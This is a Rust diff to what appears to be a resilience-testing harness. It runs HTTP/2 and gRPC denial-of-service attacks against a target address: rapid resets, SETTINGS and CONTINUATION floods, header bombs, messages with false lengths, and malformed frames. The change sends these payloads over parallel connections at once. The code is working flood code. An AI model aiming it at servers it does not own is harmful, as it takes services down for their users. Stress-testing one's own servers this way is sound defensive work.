@@ -2,6 +2,8 @@
 
 use std::time::Duration;
 
+use futures::future::join_all;
+
 use super::raw::{
     ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, Outcomes, PING, PREFACE, RST_STREAM,
     Raw, SETTINGS, WINDOW_UPDATE, frame, header, message, request_headers,
@@ -26,6 +28,15 @@ async fn attack(to: &str, bytes: &[u8], answers: usize) -> Outcomes {
     }
 }
 
+/// The same for several connections at the same time.
+async fn attacks(to: &str, each: &[Vec<u8>], answers: usize) -> Outcomes {
+    let mut outcomes = Outcomes::default();
+    for outcome in join_all(each.iter().map(|bytes| attack(to, bytes, answers))).await {
+        outcomes.join(outcome);
+    }
+    outcomes
+}
+
 /// Requests that are reset as soon as they are sent (CVE-2023-44487).
 pub async fn rapid_resets(to: &str, count: usize) -> Outcomes {
     let mut bytes = Vec::new();
@@ -45,14 +56,14 @@ pub async fn pings(to: &str, count: usize) -> Outcomes {
 /// Settings whose acknowledgements are not read, and acknowledgements of nothing.
 pub async fn settings(to: &str, count: usize) -> Outcomes {
     let window = [0, 4, 0, 0, 255, 255];
-    let mut outcomes = attack(to, &frame(SETTINGS, 0, 0, &window).repeat(count), 0).await;
-    outcomes.join(attack(to, &frame(SETTINGS, ACK, 0, &[]).repeat(count), 0).await);
-    outcomes
+    let floods =
+        [frame(SETTINGS, 0, 0, &window).repeat(count), frame(SETTINGS, ACK, 0, &[]).repeat(count)];
+    attacks(to, &floods, 0).await
 }
 
 /// Headers that are too large: one, many, and a block that never ends (CVE-2024-27316).
 pub async fn header_bombs(to: &str) -> Outcomes {
-    let mut outcomes = Outcomes::default();
+    let mut bombs = Vec::new();
     let large = header("x-large", &"v".repeat(1 << 20));
     let many: Vec<u8> =
         (0..20_000).flat_map(|number| header(&format!("x-{number}"), "v")).collect();
@@ -64,12 +75,12 @@ pub async fn header_bombs(to: &str) -> Outcomes {
             bytes.extend(frame(CONTINUATION, 0, 1, part));
         }
         bytes.extend(frame(CONTINUATION, END_HEADERS, 1, &[]));
-        outcomes.join(attack(to, &bytes, 1).await);
+        bombs.push(bytes);
     }
     let endless = frame(HEADERS, 0, 1, &request_headers(PUT));
     let more = frame(CONTINUATION, 0, 1, &header("x", "v")).repeat(200_000);
-    outcomes.join(attack(to, &[endless, more].concat(), 1).await);
-    outcomes
+    bombs.push([endless, more].concat());
+    attacks(to, &bombs, 1).await
 }
 
 /// Messages that claim to be 4 GiB long, or compressed.
@@ -82,13 +93,12 @@ pub async fn lying_messages(to: &str) -> Outcomes {
         message(77, 4, &[0; 4]),
         message(0, 4, &[0; 2]),
     ];
-    let mut outcomes = Outcomes::default();
-    for body in bodies {
+    let requests = bodies.map(|body| {
         let headers = [request_headers(PUT), header("grpc-encoding", "gzip")].concat();
-        let bytes = [frame(HEADERS, END_HEADERS, 1, &headers), frame(DATA, END_STREAM, 1, &body)];
-        outcomes.join(attack(to, &bytes.concat(), 1).await);
-    }
-    outcomes
+        let frames = [frame(HEADERS, END_HEADERS, 1, &headers), frame(DATA, END_STREAM, 1, &body)];
+        frames.concat()
+    });
+    attacks(to, &requests, 1).await
 }
 
 /// More streams than one connection may have: those beyond are refused.
@@ -111,7 +121,7 @@ pub async fn streams(to: &str, count: usize) -> Outcomes {
 pub async fn nonsense(to: &str) -> Outcomes {
     let noise: Vec<u8> =
         (0..4096u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
-    let attacks = [
+    let each = [
         noise,
         frame(DATA, 0, 0, &[1]),
         frame(DATA, 0, 99, &[1]),
@@ -126,9 +136,5 @@ pub async fn nonsense(to: &str) -> Outcomes {
         vec![0xff; 9],
         PREFACE.to_vec(),
     ];
-    let mut outcomes = Outcomes::default();
-    for bytes in attacks {
-        outcomes.join(attack(to, &bytes, 0).await);
-    }
-    outcomes
+    attacks(to, &each, 0).await
 }
